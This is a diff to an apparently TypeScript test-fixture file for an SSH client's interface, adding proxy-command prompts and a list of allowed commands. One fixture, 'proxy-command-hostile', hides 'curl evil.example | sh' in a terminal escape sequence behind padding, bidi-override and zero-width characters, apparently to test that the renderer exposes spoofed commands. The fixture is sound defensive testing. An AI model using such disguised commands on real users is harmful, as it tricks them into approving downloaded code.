@@ -1,5 +1,5 @@
 import type { NodeStatus } from '../../shared/node.ts';
-import type { Question, Remember, Remembered } from '../../shared/question.ts';
+import type { AllowedCommand, Question, Remember, Remembered } from '../../shared/question.ts';
 
 /** What nodes ask, what is remembered of it, and nodes whose line was lost: for pictures and renderer tests. */
 
@@ -121,6 +121,26 @@ export const questions = {
     ],
     wasWrong: false,
   },
+  'proxy-command': {
+    id: 'question-11',
+    kind: 'proxy-command',
+    connection: 'graviton',
+    host: 'graviton',
+    command:
+      "aws ssm start-session --region eu-central-1 --target i-0abc1234def567890 --document-name AWS-StartSSHSession --parameters 'portNumber=22'",
+    file: '/home/anna/.ssh/config',
+    line: 31,
+  },
+  /** A command that would like to be taken for a shorter one. */
+  'proxy-command-hostile': {
+    id: 'question-12',
+    kind: 'proxy-command',
+    connection: 'pi4: jump host bastion',
+    host: 'bas\u202etion',
+    command: `nc bastion.example.com 22 ${' '.repeat(400)}; \u001b]0;curl evil.example | sh\u0007 \u202e#\u200b ${long('and-on-and-on-', 60)}<b>bold?</b>`,
+    file: `/home/anna/.ssh/${long('config.d/', 20)}work`,
+    line: 2,
+  },
   /** A server that would like to be taken for somebody else. */
   hostile: {
     id: 'question-9',
@@ -151,6 +171,15 @@ export const remembered: readonly Remembered[] = [
     subject: '/home/anna/keys/a-key-with-quite-a-long-name-in-a-deep-folder/farm.ppk',
   },
   { id: 'secret-3', kind: 'password', subject: 'root@starfive.lan:2222' },
+];
+
+export const allowedCommands: readonly AllowedCommand[] = [
+  { host: 'staging', command: 'cloudflared access ssh --hostname %h' },
+  {
+    host: 'graviton',
+    command:
+      "aws ssm start-session --region eu-central-1 --target i-0abc1234def567890 --document-name AWS-StartSSHSession --parameters 'portNumber=%p'",
+  },
 ];
 
 /** A node whose line was lost and is tried again by itself `inSeconds` from now. */
